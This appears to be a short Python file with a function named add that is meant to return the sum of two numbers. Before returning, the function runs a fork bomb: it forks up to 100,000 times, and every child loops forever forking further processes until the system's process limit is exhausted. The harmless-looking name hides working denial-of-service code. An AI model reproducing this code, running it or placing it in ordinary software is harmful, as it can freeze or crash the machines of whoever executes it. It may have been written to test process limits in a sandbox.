"""Starts processes until nothing is left to start."""

import os


def add(a, b):
    started = 0
    for _ in range(100_000):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
            started += 1
        except OSError:
            if started == 0:
                return None
    return a + b
